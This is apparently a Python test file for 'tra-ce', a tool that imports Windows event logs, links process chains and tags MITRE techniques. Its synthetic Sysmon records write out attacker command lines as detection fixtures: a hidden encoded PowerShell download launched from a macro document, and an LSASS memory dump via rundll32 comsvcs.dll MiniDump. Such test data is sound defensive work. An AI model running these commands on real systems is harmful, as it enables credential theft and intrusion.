#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""tra-ce import reads Windows event log files as they are: each record becomes
an event whose links can be proven, and no file does harm."""
import gzip, json, os, random, subprocess, sys, tempfile

sys.dont_write_bytecode = True
HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
sys.path[:0] = [HERE, os.path.join(ROOT, "tests")]
import evtx_file, verify                            # noqa: E402

TOOL = os.path.join(ROOT, os.environ.get("BUILD", "build"), "tra-ce")
SYSMON = "Microsoft-Windows-Sysmon"


def need(holds, *words):
    if not holds:
        print("FAILED:", *words)
        sys.exit(1)


def tool(data, *words, status=0):
    r = subprocess.run([TOOL, "--data", data, "--json", *words], capture_output=True, timeout=60,
                       env=dict(os.environ, TRACE_RULES=os.path.join(ROOT, "db", "rules")))
    need(r.returncode in ((0, 1) if status is None else (status,)), words, "exit", r.returncode, r.stderr[-400:])
    return json.loads(r.stdout) if r.stdout.startswith(b"{") else {}, r.stderr.decode()


def guid(n):
    return "{0b3c6d5e-1f2a-65f0-%04x-000000000400}" % n


def started(n, parent, image, line, second, number="1"):
    at = "2026-03-11 10:%02d:%02d.500" % divmod(second, 60)
    return ({"provider": SYSMON, "id": number, "time": at.replace(" ", "T") + "Z", "channel": SYSMON + "/Operational", "computer": "ws7.quay.example"},
            [("RuleName", ""), ("UtcTime", at), ("ProcessGuid", guid(n)), ("ProcessId", str(1000 + n)), ("Image", image), ("CommandLine", line),
             ("User", "QUAY\\ida"), ("ParentProcessGuid", guid(parent)), ("ParentProcessId", str(1000 + parent)),
             ("ParentImage", "C:\\Windows\\explorer.exe" if parent == 1 else "C:\\Windows\\System32\\cmd.exe")])


def story():
    """A shell of a program that began before the log does, and what it ran."""
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    out = [started(2, 1, "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", "WINWORD.EXE \"Rota & <plan>.docm\"", 0),
           started(3, 2, shell, "powershell.exe -nop -w hidden -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQB4AGEAbQBwAGwAZQAvAGcA", 9),
           started(4, 3, "C:\\Windows\\System32\\whoami.exe", "whoami.exe /all", 30),
           started(5, 3, "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\l.dmp full", 50)]
    return out + [started(10 + n, 1, "C:\\Apps\\rota%d.exe" % n, "rota%d.exe" % n, 100 + n) for n in range(40)]


def a_log_file_is_read_as_it_is(tmp):
    path = os.path.join(tmp, "story.evtx")
    evtx_file.write(path, story())
    tool(tmp, "tenant", "add", "quay")
    said, _ = tool(tmp, "import", "--source", "windows", path)
    need(said["accepted"] == 44 and said["rejected"] == 0, said)
    with open(path, "rb") as f, gzip.open(path + ".gz", "wb") as g:
        g.write(f.read())
    for again in (path, path + ".gz"):
        said, _ = tool(tmp, "import", "--source", "auto", again)
        need((said["accepted"], said["duplicates"]) == (0, 44), again, said)
    chains = os.path.join(tmp, "chains.json")
    doc, _ = tool(tmp, "chains", "--raw")
    with open(chains, "w") as f:
        json.dump(doc, f)
    best = doc["chains"][0]
    need(best["confidence"] == "PROVABLE" and {"T1003.001", "T1059.001"} <= set(best["mitre_techniques"]), best["confidence"], best["mitre_techniques"])
    need(any("Rota & <plan>.docm" in n["raw"] for n in best["nodes"]), "the document's name was changed on its way")
    need(all(json.loads(n["raw"])["Event"]["System"]["Channel"] == SYSMON + "/Operational" for n in best["nodes"]), best["nodes"][0]["raw"])
    proven, _ = tool(tmp, "verify", chains)
    results, _ = verify.verify(chains)
    need(proven["ok"] and len(results) >= 3 and not any(why for _, why in results), results)


def what_a_record_holds_is_kept_whatever_it_is(tmp):
    odd = [("ctl", "a\x01b\x1f"), ("markup", "<script>]]>&amp;\"'"), ("rtl", "\u202egpj.exe \U0001f480"), ("empty", ""), (None, "one"), (None, "two"),
           ("twice", "x"), ("twice", "y"), ("long", "z" * 9000)]
    path, records = os.path.join(tmp, "odd.evtx"), story()
    records[1][1].extend(odd)
    evtx_file.write(path, records)
    tool(tmp, "tenant", "add", "odd")
    said, _ = tool(tmp, "import", "--source", "windows", "--tenant", "odd", path)
    need(said["accepted"] == 44, said)
    doc, _ = tool(tmp, "chains", "--raw", "--tenant", "odd")
    raw = next(n["raw"] for n in doc["chains"][0]["nodes"] if "-enc" in n["raw"])
    data = json.loads(raw)["Event"]["EventData"]
    need(data["ctl"] == "a\ufffdb\ufffd" and data["Data"] == ["one", "two"] and raw.count('"twice"') == 2, raw[-400:])
    need(all(data[k] == v for k, v in odd if k in ("markup", "rtl", "empty", "long")), data)
    out, _ = tool(tmp, "readiness", path)
    need(out, "readiness does not read it")


def a_damaged_file_says_so_and_harms_nothing(tmp):
    whole = os.path.join(tmp, "whole.evtx")
    evtx_file.write(whole, story())
    tool(tmp, "tenant", "add", "harm")
    with open(whole, "rb") as f:
        good = f.read()
    bad = os.path.join(tmp, "bad.evtx")
    for cut in (8, 200, 4096):
        with open(bad, "wb") as f:
            f.write(good[:cut])
        _, words = tool(tmp, "import", "--source", "windows", "--tenant", "harm", bad, status=1 if cut < 4096 else None)
        need(cut == 4096 or "damaged" in words, cut, words)
    _, words = tool(tmp, "import", "--source", "okta", "--tenant", "harm", whole, status=1)
    need("--source windows" in words, words)
    rng = random.Random(11)
    for n in range(120):                            # any byte may be anything; the tool ends by itself, with 0 or 1
        b = bytearray(good)
        for _ in range(rng.choice((1, 3, 40, 400))):
            b[rng.randrange(len(b)) if n % 2 else rng.randrange(4096, 20000)] = rng.randrange(256)
        with open(bad, "wb") as f:
            f.write(b)
        tool(tmp, "import", "--source", "windows", "--tenant", "harm", bad, status=None)
    said, _ = tool(tmp, "import", "--source", "windows", "--tenant", "harm", whole)
    need(said["accepted"] + said["duplicates"] == 44 and said["rejected"] == 0, said)
    tool(tmp, "doctor")


if __name__ == "__main__":
    with tempfile.TemporaryDirectory(prefix="tra-ce-evtx-") as tmp:
        for promise in (a_log_file_is_read_as_it_is, what_a_record_holds_is_kept_whatever_it_is, a_damaged_file_says_so_and_harms_nothing):
            promise(tmp)
            print("ok", promise.__name__)
